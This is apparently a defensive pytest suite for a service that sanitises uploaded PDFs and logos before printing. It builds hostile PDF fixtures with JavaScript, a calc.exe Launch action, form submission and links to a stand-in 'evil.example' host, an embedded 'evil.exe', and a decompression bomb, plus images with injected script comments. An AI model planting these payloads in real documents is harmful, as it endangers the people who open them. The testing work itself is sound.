"""What others sent in is printed by what it shows and does nothing; what can't be read says so at once."""

import zlib
from io import BytesIO

import pypdfium2
import pytest
from PIL import Image, PngImagePlugin
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    EncodedStreamObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)
from sqlalchemy import select, text

from services.documents import pdf_sanitising, rendering
from services.documents.messaging import messaging
from shared.messaging import copies, jobs
from shared.messaging.backoff import Backoff
from shared.messaging.order_locks import lock_order
from shared.messaging.tables import jobs as job_rows
from tests.unit.documents.sample_orders import order
from tests.unit.documents.test_rendering import invoice

BLUE, WHITE = (0, 0, 255), (255, 255, 255)
ACTS = [
    b"/AA", b"/OpenAction", b"/JavaScript", b"/JS", b"/Launch", b"/EmbeddedFile", b"/RichMedia",
    b"/SubmitForm", b"/XFA", b"/Annots", b"/AcroForm", b"/URI", b"/PieceInfo", b"alert",
]  # fmt: skip


def named(**entries):
    return DictionaryObject({NameObject(f"/{name}"): value for name, value in entries.items()})


def numbers(*values):
    return ArrayObject(map(FloatObject, values))


def action(kind, **entries):
    return named(S=NameObject(f"/{kind}"), **entries)


def written(writer):
    file = BytesIO()
    writer.write(file)
    return file.getvalue()


def hostile():
    """A PDF whose form field is filled in blue, and that acts wherever a PDF can."""
    script = action("JavaScript", JS=TextStringObject("app.alert(1)"))
    launch = action("Launch", F=TextStringObject("calc.exe"))
    submit = action("SubmitForm", F=TextStringObject("https://evil.example"))
    writer = PdfWriter()
    page = writer.add_blank_page(300, 300)
    filled = StreamObject()
    filled._data = b"0 0 1 rg 0 0 100 20 re f"
    filled.update(
        named(
            Type=NameObject("/XObject"),
            Subtype=NameObject("/Form"),
            BBox=numbers(0, 0, 100, 20),
            PieceInfo=script,
            Resources=named(Junk=script, Properties=named(A=launch)),
        )
    )
    field = writer._add_object(
        named(
            Type=NameObject("/Annot"),
            Subtype=NameObject("/Widget"),
            FT=NameObject("/Tx"),
            T=TextStringObject("x"),
            F=NumberObject(4),
            Rect=numbers(50, 50, 150, 70),
            AP=named(N=writer._add_object(filled)),
            A=submit,
            AA=named(K=script),
        )
    )
    link = named(
        Type=NameObject("/Annot"),
        Subtype=NameObject("/Link"),
        Rect=numbers(0, 0, 300, 300),
        A=action("URI", URI=TextStringObject("https://evil.example")),
    )
    media = named(Type=NameObject("/Annot"), Subtype=NameObject("/RichMedia"), Rect=numbers(0, 0, 9, 9))
    page[NameObject("/Annots")] = ArrayObject([field, writer._add_object(link), writer._add_object(media)])
    page[NameObject("/AA")] = named(O=script, C=launch)
    page[NameObject("/Resources")] = named(
        Properties=named(P=script), XObject=named(X=writer._add_object(filled))
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(script)
    writer._root_object[NameObject("/AA")] = named(WC=launch)
    writer._root_object[NameObject("/AcroForm")] = named(
        Fields=ArrayObject([field]), XFA=TextStringObject("<xdp/>")
    )
    writer.add_attachment("evil.exe", b"MZ")
    return written(writer)


def locked(password, owner):
    writer = PdfWriter(clone_from=BytesIO(hostile()))
    writer.encrypt(password, owner)
    return written(writer)


def blank(pages):
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(10, 10)
    return written(writer)


def bomb():
    """A page of 4 MB that becomes 2 GB as it is read."""
    packer = zlib.compressobj(9)
    part = b"0 0 m 1 1 l S\n" * 100_000
    stream = EncodedStreamObject()
    stream._data = b"".join(packer.compress(part) for _ in range(1500)) + packer.flush()
    stream[NameObject("/Filter")] = NameObject("/FlateDecode")
    writer = PdfWriter()
    writer.add_blank_page(100, 100)[NameObject("/Contents")] = writer._add_object(stream)
    return written(writer)


def in_the_clear(pdf):
    """All that a PDF holds, unpacked."""
    objects = PdfReader(BytesIO(pdf))
    unpacked = [
        found.get_data()
        for number in range(1, objects.trailer["/Size"])
        if isinstance(found := objects.get_object(number), StreamObject)
    ]
    return b"\n".join([pdf, *unpacked])


def colour_at(pdf, x, y):
    return pypdfium2.PdfDocument(pdf)[0].render().to_pil().convert("RGB").getpixel((x, y))


@pytest.mark.requirement("V-14")
@pytest.mark.parametrize("pdf", [hostile(), locked("", "owner")], ids=["open", "locked against changes"])
def test_what_a_pdf_shows_is_kept_and_what_it_does_is_not(pdf):
    rebuilt = pdf_sanitising.rebuilt(pdf)

    assert [name for name in ACTS if name in in_the_clear(rebuilt)] == []
    assert colour_at(rebuilt, 100, 240) == BLUE  # the form field as it was filled in
    assert colour_at(rebuilt, 10, 10) == WHITE


def test_the_hostile_pdf_of_these_tests_acts():
    known = in_the_clear(hostile())

    assert [name for name in ACTS if name not in known] == []


def test_what_we_make_ourselves_looks_the_same_when_it_is_rebuilt():
    pdf = invoice(order(3))

    before, after = (
        pypdfium2.PdfDocument(each)[0].render().to_pil().tobytes()
        for each in (pdf, pdf_sanitising.rebuilt(pdf))
    )

    assert before == after


UNREADABLE = {
    "garbage": (lambda: b"%PDF-1.7 rubbish", "is not a readable PDF"),
    "cut off": (lambda: hostile()[:700], "is not a readable PDF"),
    "locked": (lambda: locked("secret", "owner"), "is protected by a password"),
    "too many pages": (lambda: blank(pdf_sanitising.MOST_PAGES + 1), "has 201 pages; 200 at most"),
    "a bomb": (bomb, "is too complex to read"),
}


@pytest.mark.requirement("V-14")
@pytest.mark.parametrize("case", UNREADABLE)
def test_what_can_not_be_read_says_why_in_seconds(case):
    make, words = UNREADABLE[case]

    with pytest.raises(pdf_sanitising.Unreadable, match=words):
        pdf_sanitising.rebuilt(make())


@pytest.fixture
def print_upload(client, headers, sessions, app):
    """Send a file in, have it printed, and answer the print once its job was tried."""

    def print_upload(content, *, meanwhile=lambda document_id: None):
        heard = order()
        with sessions.begin() as session:
            lock_order(session, heard.order_id)
            copies.keep_newest(session, heard)
        sent = client.post(
            f"/v1/orders/{heard.order_id}/uploads",
            data={"kind": "purchase_order", "file": (BytesIO(content), "order.pdf")},
            headers=headers(),
        ).json
        asked = client.post(
            "/v1/prints", json={"kind": "documents", "document_ids": [sent["document_id"]]}, headers=headers()
        ).json
        meanwhile(sent["document_id"])
        with sessions() as session:
            [job_id] = session.scalars(select(job_rows.c.id).where(job_rows.c.kind == "print"))
        jobs.run(sessions, messaging.jobs, job_id, Backoff(0.0, 0.0))
        return sent, client.get(f"/v1/prints/{asked['print_id']}", headers=headers()).json

    return print_upload


@pytest.mark.requirement("V-14")
def test_an_upload_is_shown_inline_in_a_print_without_its_actions(client, headers, print_upload):
    sent, made = print_upload(hostile())

    assert made["status"] == "stored"
    content = client.get(f"/v1/prints/{made['print_id']}/content", headers=headers())
    assert content.headers["Content-Disposition"].startswith("inline")
    assert [name for name in ACTS if name in in_the_clear(content.data)] == []
    assert colour_at(content.data, 100, 240) == BLUE
    kept = client.get(f"/v1/documents/{sent['document_id']}/content", headers=headers())
    assert kept.data == hostile()  # what was sent in stays what it was, as an attachment
    assert kept.headers["Content-Disposition"].startswith("attachment")


@pytest.mark.requirement("V-14")
@pytest.mark.parametrize("case", ["garbage", "locked", "too many pages"])
def test_a_print_of_what_can_not_be_read_fails_at_once_and_is_no_dead_letter(print_upload, sessions, case):
    make, words = UNREADABLE[case]

    sent, made = print_upload(make())

    assert (made["status"], made["failure"]) == ("failed", f"the document {sent['document_id']} {words}")
    with sessions() as session:
        tried = session.execute(text("select state, attempts from jobs where kind = 'print'")).one()
    assert tuple(tried) == ("done", 1)


@pytest.mark.requirement("V-14")
def test_a_print_of_what_was_removed_meanwhile_fails_at_once(print_upload, client, headers):
    def remove(document_id):
        client.post(f"/v1/documents/{document_id}/remove", json={"reason": "wrong"}, headers=headers())

    _, made = print_upload(blank(1), meanwhile=remove)

    assert (made["status"], made["failure"]) == ("failed", "a document in it was removed")


@pytest.mark.requirement("V-14")
def test_a_print_has_a_thousand_pages_at_most():
    with pytest.raises(rendering.TooLong, match="more than 1000 pages"):
        rendering.put_together([blank(200)] * 6)


@pytest.mark.requirement("V-14")
@pytest.mark.parametrize(("kind", "mode"), [("PNG", "RGBA"), ("PNG", "P"), ("PNG", "I;16"), ("JPEG", "CMYK")])
def test_a_logo_is_drawn_anew_and_carries_nothing_else(client, headers, app, sessions, store, kind, mode):
    noted = PngImagePlugin.PngInfo()
    noted.add_text("Comment", "<script>evil</script>")
    file = BytesIO()
    more = {"pnginfo": noted} if kind == "PNG" else {"comment": b"<script>evil</script>"}
    Image.new(mode, (3000, 1500)).save(file, kind, **more)
    sent = file.getvalue() + b"%PDF-1.7 evil behind the picture"
    assert b"evil" in sent

    put = client.put("/v1/sellers/acme/logo", data={"file": (BytesIO(sent), "l")}, headers=headers())

    assert put.status_code == 200, put.json
    kept = store.read(put.json["sha256"])
    assert b"evil" not in kept
    with Image.open(BytesIO(kept)) as drawn:
        assert (drawn.format, drawn.size) == (kind, (1000, 500))
